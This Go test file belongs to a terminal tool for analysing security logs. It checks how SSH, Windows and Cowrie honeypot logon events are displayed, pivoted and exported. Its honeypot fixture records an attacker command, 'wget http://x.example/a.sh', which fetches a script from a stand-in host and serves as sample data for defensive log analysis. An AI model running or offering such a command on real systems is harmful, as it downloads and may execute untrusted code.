package detail

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"
	"github.com/longtail/longtail/db"
	engsubject "github.com/longtail/longtail/engine/subject"
	"github.com/longtail/longtail/tui/common"
	"github.com/longtail/longtail/tui/internal/tuitest"
)

// logons is a workspace of an auth log and a honeypot's log.
func logons(t *testing.T) common.Common {
	t.Helper()
	dir := t.TempDir()
	auth := filepath.Join(dir, "auth.log")
	pot := filepath.Join(dir, "cowrie.json")
	write(t, auth, "Mar 27 13:07:02 web1 sshd[1301]: Failed password for invalid user admin from 10.0.2.18 port 50691 ssh2\n"+
		"Mar 27 13:07:03 web1 sshd[1302]: Failed password for root from 10.0.2.18 port 50692 ssh2\n"+
		"Mar 27 13:09:00 web1 sshd[1303]: Accepted password for root from 10.0.2.18 port 50693 ssh2\n")
	write(t, pot, `{"eventid": "cowrie.login.success", "username": "root", "password": "hunter2", "timestamp": "2018-06-01T00:05:01Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n"+
		`{"eventid": "cowrie.command.input", "input": "wget http://x.example/a.sh", "timestamp": "2018-06-01T00:05:02Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n")
	return ingested(t, dir, auth, pot)
}

// The logons of an account have the logon's columns (source, type,
// result, account → target with the reason in words), and the
// authentication and password of the cursor's row under them.
func TestLogonEvents(t *testing.T) {
	c := logons(t)
	v := tuitest.Open(NewEvents, c, valueTarget(t, c, engsubject.LogonAccount, "root"), 100, 14)
	got := ansi.Strip(v.View())
	for _, want := range []string{"source", "result", "account → target", "10.0.2.18", "192.0.2.7", "ssh", "success", "failure",
		"logons of root", "root → web1  wrong password", "root → pot1", "auth password"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "qtype") || strings.Contains(got, "rcode") {
		t.Errorf("DNS columns on logons:\n%s", got)
	}
}

// A honeypot's command shows what was typed; a logon with an unknown user
// says so in words.
func TestLogonRowFormatting(t *testing.T) {
	row := formatLogon(db.EventRow{Client: "10.0.0.1", Logon: engsubject.LogonDetail{EventID: 4625, Account: "bob", AccountDomain: "CORP",
		Target: "dc01", LogonType: "3", Auth: "NTLM", Result: "failure", Reason: "0xC0000064"}, Source: "sec.evtx", Line: 7}, false)
	if row.qtype != "3" || row.rcode != "failure" || row.ttl != "4625" || row.answers != `CORP\bob → dc01  no such user` ||
		row.detail != "auth NTLM  status 0xC0000064 (no such user)" {
		t.Errorf("windows logon %+v", row)
	}
	row = formatLogon(db.EventRow{Client: "192.0.2.7", Logon: engsubject.LogonDetail{Account: "root", Target: "pot1", Result: "success",
		Password: "hunter2", Auth: "password"}}, false)
	if row.answers != "root → pot1" || row.detail != "auth password  password hunter2" {
		t.Errorf("honeypot login %+v", row)
	}
	row = formatLogon(db.EventRow{Client: "192.0.2.7", Logon: engsubject.LogonDetail{Target: "pot1", Command: "uname -a\x1b[31m"}}, false)
	if !strings.HasPrefix(row.answers, "→ pot1  command uname -a") {
		t.Errorf("command %+v", row)
	}
	if strings.ContainsRune(row.answers, '\x1b') || strings.ContainsRune(row.detail, '\x1b') {
		t.Errorf("an escape reached the screen: %q %q", row.answers, row.detail)
	}
}

// The pivot of a logon's source lists what it did across the logon's
// subjects and counts its logons once each.
func TestPivotOfALogonSource(t *testing.T) {
	// Its title does not call the accounts it tried names it asked.
	pivotShows(t, logons(t), "10.0.2.18", 30, "everything done by 10.0.2.18", "3 logons", "logon source 10.0.2.18", "logon account root", "logon account admin")
}

// Logons of several years (root in a 2018 honeypot log and this year's
// auth log) show the year in their times.
func TestEventsOfSeveralYearsShowTheYear(t *testing.T) {
	c := logons(t)
	v := tuitest.Open(NewEvents, c, valueTarget(t, c, engsubject.LogonAccount, "root"), 100, 14)
	tuitest.CheckSize(t, v, 100, 14)
	if got := ansi.Strip(v.View()); !strings.Contains(got, "2018-06-01 00:05:01 192.0.2.7") {
		t.Errorf("the honeypot's logon without its year:\n%s", got)
	}
}

// The pivot of a honeypot's client lists every subject its events have,
// the password it tried beside the account, and each row's share is of the
// client's logons the title counts, not of the row's own subject.
func TestPivotOfAHoneypotClientShowsEverySubject(t *testing.T) {
	_, got := pivotShows(t, logons(t), "192.0.2.7", 30, "2 logons", "of all", "logon password hunter2", "logon result success", "logon command wget")
	for _, line := range strings.Split(got, "\n") {
		if strings.Contains(line, "logon account root") && !strings.Contains(line, " 50.0% ") {
			t.Errorf("root's one logon of two is not 50%%: %q", line)
		}
	}
}

// The year shows on every page when the whole list spans years, known from
// its aggregates: the newest page of root's logons is of one year, its
// oldest logon of 2018.
func TestEventsPageOfOneYearShowsTheYearOfAListOfSeveral(t *testing.T) {
	dir := t.TempDir()
	auth, pot := filepath.Join(dir, "auth.log"), filepath.Join(dir, "cowrie.json")
	var b strings.Builder
	for i := range pageSize + 100 {
		fmt.Fprintf(&b, "Mar 27 13:%02d:%02d web1 sshd[%d]: Failed password for root from 10.0.2.18 port 50691 ssh2\n", i/60%60, i%60, 1000+i)
	}
	write(t, auth, b.String())
	write(t, pot, `{"eventid": "cowrie.login.success", "username": "root", "password": "x", "timestamp": "2018-06-01T00:05:01Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n")
	c := ingested(t, dir, auth, pot)
	v := tuitest.Open(NewEvents, c, valueTarget(t, c, engsubject.LogonAccount, "root"), 100, 14)
	if got := ansi.Strip(v.View()); !strings.Contains(got, "-03-27 13:") {
		t.Errorf("the newest page of a list of several years without its year:\n%s", got)
	}
}

// The clients of an account seen in two years show the year in their
// first and last seen.
func TestClientsOfSeveralYearsShowTheYear(t *testing.T) {
	c := logons(t)
	v := tuitest.Open(NewClients, c, valueTarget(t, c, engsubject.LogonAccount, "root"), 100, 14)
	tuitest.CheckSize(t, v, 100, 14)
	if got := ansi.Strip(v.View()); !strings.Contains(got, "2018-06-01 00:05 2018-06-01 00:05") {
		t.Errorf("the honeypot's client without its year:\n%s", got)
	}
}

// p on a logon that names no source (Windows writes "-") says there is
// none to pivot on, not that a client "-" was not found.
func TestPivotOnALogonWithoutASource(t *testing.T) {
	dir := t.TempDir()
	sec := filepath.Join(dir, "security.json")
	write(t, sec, `{"@timestamp":"2024-03-07T01:00:00Z","EventID":4624,"Channel":"Security","Hostname":"dc01","TargetUserName":"alice","TargetDomainName":"CORP","LogonType":"5","IpAddress":"-","Status":"0x0"}`+"\n")
	c := ingested(t, dir, sec)
	v := tuitest.Open(NewEvents, c, valueTarget(t, c, engsubject.LogonAccount, "alice@corp"), 100, 14)
	msgs := tuitest.Press(v, "p")
	if len(msgs) != 1 || msgs[0] != (common.StatusMsg{Text: "this row names no source: there is none to pivot on"}) {
		t.Errorf("p on a logon without a source: %v", msgs)
	}
}

// The screens of logons speak of logons and sources: the events' help,
// the clients screen (which counts the logons without a source too), the
// pivot's values and the f filter's keys.
func TestLogonScreensUseTheKindsWords(t *testing.T) {
	dir := t.TempDir()
	sec := filepath.Join(dir, "security.json")
	ev := `{"@timestamp":"2024-03-07T01:0%d:00Z","EventID":4624,"Channel":"Security","Hostname":"dc01","TargetUserName":"alice","TargetDomainName":"CORP","LogonType":"3","IpAddress":"%s","Status":"0x0"}` + "\n"
	write(t, sec, fmt.Sprintf(ev, 1, "10.0.0.5")+fmt.Sprintf(ev, 2, "10.0.0.5")+fmt.Sprintf(ev, 3, "-"))
	c := ingested(t, dir, sec)
	alice := valueTarget(t, c, engsubject.LogonAccount, "alice@corp")
	events := tuitest.Open(NewEvents, c, alice, 100, 14)
	help := fmt.Sprint(events.KeyHelp())
	for _, want := range []string{"Logons", "sources of these logons", "what else this row's source did"} {
		if !strings.Contains(help, want) {
			t.Errorf("the events' help lacks %q: %s", want, help)
		}
	}
	if strings.Contains(help, "Requests") || strings.Contains(help, "name or group") {
		t.Errorf("the events' help speaks of requests: %s", help)
	}
	tuitest.Press(events, "f", "m", "e", "t", "h", "o", "d", "=", "G", "E", "T")
	if msgs := tuitest.Press(events, "enter"); len(msgs) != 1 || !strings.Contains(fmt.Sprint(msgs[0]), "by source, result, id") {
		t.Errorf("f method=GET: %v", msgs)
	}
	clients := ansi.Strip(tuitest.Open(NewClients, c, alice, 100, 14).View())
	if !strings.Contains(clients, "sources of alice@corp  1 source, 2 logons (and 1 without a source)") || !strings.Contains(clients, "last seen    source ") {
		t.Errorf("the clients of an account:\n%s", clients)
	}
	pivotShows(t, c, "10.0.0.5", 14, "5 values, 2 logons", "last seen    value ")
}

// E writes a logon without an event number (sshd's, a custom log's) with
// an empty event_id, as the screen leaves it blank, not 0.
func TestExportLeavesAnAbsentEventIDEmpty(t *testing.T) {
	c := logons(t)
	v := tuitest.Open(NewEvents, c, valueTarget(t, c, engsubject.LogonAccount, "root"), 100, 14)
	header, rows := v.(common.Exporter).Rows()
	col := slices.Index(header, "event_id")
	if col < 0 || len(rows) == 0 {
		t.Fatalf("header %v, %d rows", header, len(rows))
	}
	for _, r := range rows {
		if r[col] != "" {
			t.Errorf("event_id %q for a logon with none: %v", r[col], r)
		}
	}
}

// A command's title that does not fit is cut at its end, as the list cuts
// a command, and so are its clients': its start says what it is. It was
// cut at its start as a host name is, and "…/x.example/a.sh" hid the wget.
func TestLongCommandTitleKeepsItsStart(t *testing.T) {
	c := logons(t)
	cmd := valueTarget(t, c, engsubject.LogonCommand, "wget http://x.example/a.sh")
	for _, open := range []common.Opener{NewEvents, NewClients} {
		v := tuitest.Open(open, c, cmd, 50, 14)
		top, _, _ := strings.Cut(ansi.Strip(v.View()), "\n")
		if !strings.Contains(top, " of wget http:") || !strings.Contains(top, "…") {
			t.Errorf("the title does not keep the command's start, its cut marked:\n%s", top)
		}
	}
}
